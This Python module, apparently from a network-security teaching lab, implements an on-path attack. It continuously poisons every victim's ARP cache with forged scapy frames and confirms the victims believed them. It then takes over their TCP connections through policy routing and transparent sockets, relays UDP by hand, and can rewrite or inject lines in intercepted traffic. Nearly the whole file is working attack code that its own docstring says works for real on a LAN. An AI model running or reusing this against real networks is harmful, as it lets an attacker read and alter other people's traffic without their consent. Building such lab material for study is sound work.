"""Getting on the path, and holding what comes by: what the attacks of position `on-path` share.

On the LAN this is the real thing. Mallory tells each host that every other host's address is at her own MAC address
(ARP, RFC 826, believes whoever speaks), so all frames come to her; she forwards what she does not want, and lets
her kernel hand her the TCP connections that she does (policy routing and IP_TRANSPARENT: nothing is installed, and
both ends keep seeing each other's addresses). On loopback the bench hands her the relay instead.
"""

import asyncio
import contextlib
import socket
from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
from functools import cache
from itertools import permutations
from typing import Any, Final

from attacks import Foothold
from common.dns import PORT as DNS_PORT
from common.errors import LabError
from common.hosts import connected
from common.lan import PLAN, PREFIX, LanHost
from common.loopback import Intercepted, InterceptTcp, InterceptUdp, LoopbackHost
from common.session import Address

TABLE: Final = "100"
UDP_TABLE: Final = "101"
EVERY: Final = 0.2
"""Seconds between two rounds of forged ARP: any true broadcast repairs a victim's cache, and this undoes the repair."""
POISON_SECONDS: Final = 5.0

TLS_HANDSHAKE: Final = 0x16
"""The first byte of a TLS connection (RFC 8446, section 5.1); no line of the chat begins with it."""

Piece = bytes
"""A line, without its newline; where a connection is encrypted, whatever arrived together."""
Rewrite = Callable[[Piece], list[Piece]]
"""Gets a piece that goes by, returns the pieces that go on instead."""


@contextlib.asynccontextmanager
async def on_path(foothold: Foothold, tcp: InterceptTcp, udp: InterceptUdp | None = None) -> AsyncIterator[None]:
    """Be between all the hosts until the block ends; then put everything back."""
    host = foothold.host
    if isinstance(host, LoopbackHost):
        host.network.intercept_tcp, host.network.intercept_udp = tcp, udp
        try:
            yield
        finally:
            host.network.intercept_tcp = host.network.intercept_udp = None
    elif isinstance(host, LanHost):
        async with _poisoned(host, foothold.note) as macs, _intercepting(host, foothold.server[1], tcp):
            with _holding_datagrams(host, macs, udp) if udp else contextlib.nullcontext():
                yield
    else:
        async with _relaying(foothold, tcp):
            yield


@contextlib.asynccontextmanager
async def _relaying(foothold: Foothold, tcp: InterceptTcp) -> AsyncIterator[None]:
    """By hand there is no ARP to forge: the clients are pointed at us by whoever starts them."""
    listener = await foothold.host.listen(0)
    server = foothold.server

    async def serve() -> None:
        async with _tasks() as start:
            while True:
                sock, client = await asyncio.get_running_loop().sock_accept(listener)
                start(tcp(Intercepted(sock, client, server, lambda: foothold.host.connect(*server))))

    accepting = asyncio.create_task(serve())
    foothold.note(f"Start the clients with SERVER={foothold.host.address}:{listener.getsockname()[1]}")
    try:
        yield
    finally:
        accepting.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await accepting
        listener.close()


class Pieces:
    """Cuts a stream into lines, up to where it is encrypted."""

    def __init__(self) -> None:
        self.ending = b"\n"
        """What goes behind each piece."""
        self._begun = b""

    def feed(self, data: bytes) -> Iterator[Piece]:
        """Take what arrived, yield the pieces that are complete."""
        while data and self.ending:
            if not self._begun and data[0] == TLS_HANDSHAKE:
                self.ending = b""
                break
            line, newline, data = data.partition(b"\n")
            self._begun += line
            if newline:
                line, self._begun = self._begun, b""
                yield line
        if data:
            yield data


class Splice:
    """One intercepted connection, piece by piece: each direction flows on, through its `Rewrite` where one is given."""

    def __init__(
        self, intercepted: Intercepted, from_client: Rewrite | None = None, from_server: Rewrite | None = None
    ) -> None:
        self.client = intercepted.client
        self._intercepted = intercepted
        self._from_client = from_client
        self._from_server = from_server
        self._onward: socket.socket | None = None
        self._pieces = Pieces()

    async def to_server(self, piece: Piece) -> None:
        """Put a piece of one's own into the client's connection; where it has ended, nothing happens."""
        if self._onward:
            with contextlib.suppress(OSError):
                await asyncio.get_running_loop().sock_sendall(self._onward, piece + self._pieces.ending)

    def cut(self) -> None:
        """End the connection, towards both."""
        for sock in (self._intercepted.sock, self._onward):
            if sock:
                with contextlib.suppress(OSError):  # it has ended already
                    sock.shutdown(socket.SHUT_RDWR)

    async def run(self) -> None:
        """Carry until both ends are done."""
        with await self._intercepted.dial() as self._onward:
            await asyncio.gather(
                _carry(self._intercepted.sock, self._onward, self._pieces, self._from_client),
                _carry(self._onward, self._intercepted.sock, Pieces(), self._from_server),
            )


async def _carry(source: socket.socket, sink: socket.socket, pieces: Pieces, rewrite: Rewrite | None) -> None:
    loop = asyncio.get_running_loop()
    with contextlib.suppress(OSError):
        while data := await loop.sock_recv(source, 1 << 16):
            if rewrite:
                data = b"".join(out + pieces.ending for piece in pieces.feed(data) for out in rewrite(piece))
            if data:
                await loop.sock_sendall(sink, data)
    with contextlib.suppress(OSError):
        sink.shutdown(socket.SHUT_WR)


@contextlib.asynccontextmanager
async def _intercepting(host: LanHost, port: int, tcp: InterceptTcp) -> AsyncIterator[None]:
    """Take every TCP connection to this port that comes by; forward all other packets."""
    host.sysctl("ipv4/ip_forward", "1")
    for interface in ("all", "eth0"):
        host.sysctl(f"ipv4/conf/{interface}/send_redirects", "0")  # do not tell the victims a better way
        host.sysctl(f"ipv4/conf/{interface}/rp_filter", "0")
    rules = [
        ["pref", "10", "iif", "eth0", "ipproto", "tcp", end, str(port), "lookup", TABLE] for end in ("dport", "sport")
    ]
    host.run("ip", "route", "add", "local", "0.0.0.0/0", "dev", "lo", "table", TABLE)
    for rule in rules:
        host.run("ip", "rule", "add", *rule)
    listener = host.make(socket.SOCK_STREAM, transparent=True)
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("0.0.0.0", port))
    listener.listen()
    listener.setblocking(False)
    accepting = asyncio.create_task(_accept(host, listener, tcp))
    try:
        yield
    finally:
        accepting.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await accepting
        listener.close()
        for rule in rules:
            host.run("ip", "rule", "del", *rule)
        host.run("ip", "route", "flush", "table", TABLE)
        host.sysctl("ipv4/ip_forward", "0")


@contextlib.contextmanager
def _holding_datagrams(host: LanHost, macs: dict[str, str], udp: InterceptUdp) -> Iterator[None]:
    """Let the kernel forward no UDP; carry it by hand, frame by frame, through `udp` (DNS goes on untouched)."""
    from scapy.layers.inet import IP, UDP
    from scapy.layers.l2 import Ether

    card = host.packet_socket()

    def carry() -> None:
        try:
            packet = Ether(card.recv(1 << 16))
        except BlockingIOError:
            return
        if packet.dst != host.mac or UDP not in packet or packet[IP].dst not in macs:
            return
        header, payload = packet[UDP], bytes(packet[UDP].payload)
        if DNS_PORT not in (header.sport, header.dport):
            source, target = (packet[IP].src, header.sport), (packet[IP].dst, header.dport)
            carried = udp(payload, source, target)
            if carried is None:
                return
            payload = carried
        onward = IP(src=packet[IP].src, dst=packet[IP].dst) / UDP(sport=header.sport, dport=header.dport) / payload
        card.send(bytes(Ether(src=host.mac, dst=macs[packet[IP].dst]) / onward))

    host.run("ip", "route", "add", "blackhole", "default", "table", UDP_TABLE)
    host.run("ip", "rule", "add", "pref", "9", "iif", "eth0", "ipproto", "udp", "lookup", UDP_TABLE)
    asyncio.get_running_loop().add_reader(card, carry)
    try:
        yield
    finally:
        asyncio.get_running_loop().remove_reader(card)
        card.close()
        host.run("ip", "rule", "del", "pref", "9")
        host.run("ip", "route", "flush", "table", UDP_TABLE)


async def _accept(host: LanHost, listener: socket.socket, tcp: InterceptTcp) -> None:
    async def hand_over(sock: socket.socket, client: Address) -> None:
        server: Address = sock.getsockname()  # a transparent socket's own address is the one that was dialled

        async def dial() -> socket.socket:
            onward = host.make(socket.SOCK_STREAM, transparent=True)
            onward.bind((client[0], 0))
            return await connected(onward, *server)

        with sock:
            sock.setblocking(False)
            await tcp(Intercepted(sock, client, server, dial))

    async with _tasks() as start:
        while True:
            sock, client = await asyncio.get_running_loop().sock_accept(listener)
            start(hand_over(sock, client))


@contextlib.asynccontextmanager
async def _tasks() -> AsyncIterator[Callable[[Coroutine[Any, Any, None]], None]]:
    """Start tasks; end those that still run when the block ends."""
    running: set[asyncio.Task[None]] = set()

    def start(work: Coroutine[Any, Any, None]) -> None:
        running.add(asyncio.create_task(work))

    try:
        yield start
    finally:
        for task in running:
            task.cancel()
        for result in await asyncio.gather(*running, return_exceptions=True):
            if isinstance(result, Exception) and not isinstance(result, LabError):
                raise result


@contextlib.asynccontextmanager
async def _poisoned(host: LanHost, note: Callable[[str], None]) -> AsyncIterator[dict[str, str]]:
    """Keep every victim's ARP cache pointing at us, and give their true MAC addresses; at the end, restore.

    All pairs, not only members and server: a victim that has an entry for everyone never asks by broadcast, and a
    broadcast would repair the others.
    """
    victims = {name: f"{PREFIX}.{byte}" for name, byte in PLAN.items() if name not in (host.name, "eve")}
    with host.packet_socket() as card:
        macs = await _true_macs(host, card, list(victims.values()))
        pairs = list(permutations(victims.values(), 2))
        forged = [frame for victim, other in pairs for frame in _arp(victim, macs[victim], other, host.mac, host.mac)]
        restored = [
            frame for victim, other in pairs for frame in _arp(victim, macs[victim], other, macs[other], host.mac)
        ]
        await _until_answered(card, host, forged, set(pairs))
        note(f"ARP: told {len(victims)} hosts that all the others are at {host.mac}, and they answered there")
        keeping = asyncio.create_task(_keep(card, forged))
        try:
            yield macs
        finally:
            keeping.cancel()
            _send(card, restored)


@cache
def _arp(victim: str, victim_mac: str, other: str, other_mac: str, sender_mac: str) -> list[bytes]:
    """Three ways of saying to `victim` "`other` is at `other_mac`": no single one is believed in every state.

    A request makes an entry where there was none; a gratuitous request and a reply override one that there was
    (Linux, net.ipv4.conf.*.arp_accept=0).
    """
    from scapy.layers.l2 import ARP, Ether

    ether = Ether(src=sender_mac, dst=victim_mac)
    return [
        bytes(ether / ARP(op=1, hwsrc=other_mac, psrc=other, pdst=victim)),
        bytes(ether / ARP(op=1, hwsrc=other_mac, psrc=other, pdst=other)),
        bytes(ether / ARP(op=2, hwsrc=other_mac, psrc=other, pdst=victim, hwdst=victim_mac)),
    ]


async def _true_macs(host: LanHost, card: socket.socket, addresses: list[str]) -> dict[str, str]:
    """Ask the ordinary way who has these addresses."""
    from scapy.layers.l2 import ARP, Ether

    questions = [
        bytes(Ether(src=host.mac, dst="ff:ff:ff:ff:ff:ff") / ARP(hwsrc=host.mac, psrc=host.address, pdst=address))
        for address in addresses
    ]
    macs: dict[str, str] = {}

    def take(arp: Any) -> bool:
        macs[arp.psrc] = arp.hwsrc
        return set(addresses) <= set(macs)

    await _answers(card, host, questions, take)
    return macs


async def _until_answered(card: socket.socket, host: LanHost, forged: list[bytes], pairs: set[tuple[str, str]]) -> None:
    """Send the forged frames until each victim has answered, to us, the request that pretended to be each other host:
    the event that shows that it was believed."""
    missing = set(pairs)

    def take(arp: Any) -> bool:
        missing.discard((arp.psrc, arp.pdst))
        return not missing

    await _answers(card, host, forged, take)


async def _answers(card: socket.socket, host: LanHost, frames: list[bytes], take: Callable[[Any], bool]) -> None:
    """Send frames, again every EVERY seconds, and give `take` each ARP reply to us until it is content."""
    from scapy.layers.l2 import ARP, Ether

    async def listen() -> None:
        loop = asyncio.get_running_loop()
        while True:
            packet = Ether(await loop.sock_recv(card, 1 << 16))
            if ARP in packet and packet[ARP].op == 2 and packet.dst == host.mac and take(packet[ARP]):
                return

    listening = asyncio.create_task(listen())
    try:
        async with asyncio.timeout(POISON_SECONDS):
            while not listening.done():
                _send(card, frames)
                await asyncio.wait([listening], timeout=EVERY)
    except TimeoutError:
        raise LabError("The hosts do not answer ARP; the attack cannot get on the path.") from None
    finally:
        listening.cancel()


async def _keep(card: socket.socket, forged: list[bytes]) -> None:
    while True:
        await asyncio.sleep(EVERY)
        _send(card, forged)


def _send(card: socket.socket, frames: list[bytes]) -> None:
    for frame in frames:
        card.send(frame)
